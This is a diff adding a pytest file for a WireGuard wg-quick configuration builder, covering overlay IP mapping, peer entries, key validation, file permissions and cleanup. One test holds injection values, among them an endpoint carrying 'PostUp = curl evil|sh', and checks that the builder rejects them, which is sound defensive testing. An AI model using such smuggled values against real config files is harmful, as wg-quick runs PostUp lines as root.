@@ -1,0 +1,118 @@
+"""WireGuard overlay seam (SURVEY.md §2.4 algo↔algo row, VERDICT r2
+missing #5): node-level WG keys (the reference's vpn_manager model —
+per-run peer-channel keys live inside algorithm processes and can never
+key a node tunnel) → a verified wg-quick configuration. Everything but
+the actual ``wg-quick up`` is proven here (the image ships no
+WireGuard; ``up()`` must say so clearly), including that the builder is
+injection-proof: wg-quick executes ``PostUp`` lines as root."""
+
+import base64
+
+import pytest
+
+from vantage6_trn.node import wireguard as wg
+
+
+def _inventory():
+    keys = [wg.generate_keypair() for _ in range(3)]
+    return keys, [
+        {"organization_id": oid, "endpoint": f"10.0.0.{oid}:{51820 + oid}",
+         "public_key": keys[i][1]}
+        for i, oid in enumerate((1, 2, 300))
+    ]
+
+
+def test_overlay_ip_stable_and_bounded():
+    assert wg.overlay_ip(1) == "10.76.0.1"
+    assert wg.overlay_ip(300) == "10.76.1.44"
+    assert wg.overlay_ip(65535) == "10.76.255.255"
+    for bad in (0, -1, 1 << 16):
+        with pytest.raises(ValueError):
+            wg.overlay_ip(bad)
+
+
+def test_config_from_inventory():
+    keys, peers = _inventory()
+    priv, pub = wg.generate_keypair()
+    conf = wg.build_config(priv, organization_id=1, peers=peers)
+    assert "Address = 10.76.0.1/16" in conf
+    assert f"PrivateKey = {priv}" in conf
+    assert conf.count("[Peer]") == 2  # self excluded
+    # each peer entry binds ITS key to ITS endpoint and overlay /32
+    assert f"PublicKey = {keys[1][1]}" in conf
+    assert "Endpoint = 10.0.0.2:51822" in conf
+    assert "AllowedIPs = 10.76.0.2/32" in conf
+    assert "AllowedIPs = 10.76.1.44/32" in conf
+    # deterministic: same input, same bytes (ops can diff rollouts)
+    assert conf == wg.build_config(priv, 1, peers)
+
+
+def test_config_rejects_injection_vectors():
+    """A hostile inventory entry must not reach the INI: wg-quick runs
+    PostUp as root, and bare b64decode would silently strip the very
+    newline that smuggles the directive in."""
+    _, peers = _inventory()
+    priv, _ = wg.generate_keypair()
+
+    evil = dict(peers[1])
+    evil["endpoint"] = "1.2.3.4:51820\nPostUp = curl evil|sh"
+    with pytest.raises(ValueError, match="host:port"):
+        wg.build_config(priv, 1, [peers[0], evil, peers[2]])
+
+    evil = dict(peers[1])
+    evil["public_key"] = peers[1]["public_key"] + "\nPostUp = id"
+    with pytest.raises(ValueError, match="Curve25519"):
+        wg.build_config(priv, 1, [peers[0], evil, peers[2]])
+
+    with pytest.raises(ValueError, match="Curve25519"):
+        wg.build_config("\nPostUp = id", 1, peers)
+
+
+def test_config_rejects_missing_or_short_keys_and_duplicates():
+    _, peers = _inventory()
+    priv, _ = wg.generate_keypair()
+    peers[1]["public_key"] = None
+    with pytest.raises(ValueError, match="Curve25519"):
+        wg.build_config(priv, 1, peers)
+    peers[1]["public_key"] = base64.b64encode(b"short").decode()
+    with pytest.raises(ValueError, match="Curve25519"):
+        wg.build_config(priv, 1, peers)
+    _, peers = _inventory()
+    # duplicate org → two peers would claim the same AllowedIPs /32
+    # (WireGuard routes to the last, silently blackholing the first)
+    with pytest.raises(ValueError, match="duplicate"):
+        wg.build_config(priv, 1, peers + [dict(peers[1])])
+
+
+def test_keypair_is_wireguard_shaped():
+    priv, pub = wg.generate_keypair()
+    assert len(base64.b64decode(priv)) == 32
+    assert len(base64.b64decode(pub)) == 32
+    assert priv != pub
+
+
+def test_write_config_private_from_first_byte_and_cleanup(tmp_path):
+    _, peers = _inventory()
+    priv, _ = wg.generate_keypair()
+    overlay = wg.WireGuardOverlay(priv, organization_id=1,
+                                  directory=str(tmp_path))
+    path = overlay.write_config(peers)
+    assert path.read_text().startswith("[Interface]")
+    assert (path.stat().st_mode & 0o777) == 0o600  # holds the priv key
+    # repeated writes reuse the same path (no key-bearing file litter)
+    assert overlay.write_config(peers) == path
+    overlay.down()
+    assert not path.exists()  # down() removes the key-bearing conf
+
+
+def test_up_without_binary_is_a_clear_error(tmp_path, monkeypatch):
+    """No silent stub: ``up()`` on this image must explain exactly what
+    is missing and what covers the security goal meanwhile."""
+    monkeypatch.setattr(wg.shutil, "which", lambda _: None)
+    _, peers = _inventory()
+    priv, _ = wg.generate_keypair()
+    overlay = wg.WireGuardOverlay(priv, organization_id=1,
+                                  directory=str(tmp_path))
+    with pytest.raises(RuntimeError, match="wg-quick not found"):
+        overlay.up(peers)
+    overlay.down()  # no conf written yet — must not raise
